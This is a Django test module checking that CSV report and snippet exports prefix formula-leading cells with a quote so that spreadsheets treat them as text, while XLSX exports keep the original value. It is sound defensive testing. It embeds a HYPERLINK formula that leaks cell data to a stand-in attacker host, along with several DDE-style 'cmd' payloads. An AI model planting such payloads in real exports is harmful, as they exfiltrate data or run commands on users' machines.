"""CSV exports that staff open in a spreadsheet never run a cell as a formula; XLSX is unchanged."""

import csv
import io

import pytest

from django.urls import reverse

from exports.spreadsheet import neutralise_cell
from resources.models import ResourceDownload
from search.models import SearchQueryLog
from tests.factories.resources import FrameworkFactory, ResourceFactory

pytestmark = pytest.mark.django_db
PLANTED = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def csv_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8"))))


def cells(response):
    return {cell for row in csv_rows(response) for cell in row}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_are_turned_into_text(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Quality", "e-mail", 5, -3, None, ""])
def test_plain_text_and_numbers_pass_unchanged(value):
    assert neutralise_cell(value) == value


def test_a_query_planted_by_a_visitor_is_text_in_the_search_report(client, coordinator):
    SearchQueryLog.objects.create(language_code="en", date="2026-11-02", query=PLANTED, searches=1, results=0)
    client.force_login(coordinator)

    exported = cells(client.get(reverse("search_queries_report"), {"export": "csv"}))

    assert "'" + PLANTED in exported
    assert PLANTED not in exported


def test_resource_titles_are_text_in_the_download_report(client, officer):
    resource = ResourceFactory(title="-2+3+cmd|' /C calc'!A0")
    ResourceDownload.record(resource, "sq")
    client.force_login(officer)

    exported = cells(client.get("/admin/reports/resource-downloads/", {"export": "csv"}))

    assert "'-2+3+cmd|' /C calc'!A0" in exported


def test_snippet_listings_export_formula_cells_as_text(client, officer):
    ResourceFactory(title="@SUM(1+1)*cmd")
    FrameworkFactory(name="+41 cmd")
    client.force_login(officer)

    resources = cells(client.get("/admin/snippets/resources/resource/", {"export": "csv"}))
    frameworks = cells(client.get("/admin/snippets/resources/framework/", {"export": "csv"}))

    assert "'@SUM(1+1)*cmd" in resources
    assert "'+41 cmd" in frameworks


def test_xlsx_export_keeps_the_text_as_written(client, coordinator):
    from openpyxl import load_workbook

    SearchQueryLog.objects.create(language_code="en", date="2026-11-02", query=PLANTED, searches=1, results=0)
    client.force_login(coordinator)

    response = client.get(reverse("search_queries_report"), {"export": "xlsx"})
    body = b"".join(response.streaming_content) if response.streaming else response.content
    values = {cell.value for row in load_workbook(io.BytesIO(body)).active.iter_rows() for cell in row}

    assert PLANTED in values
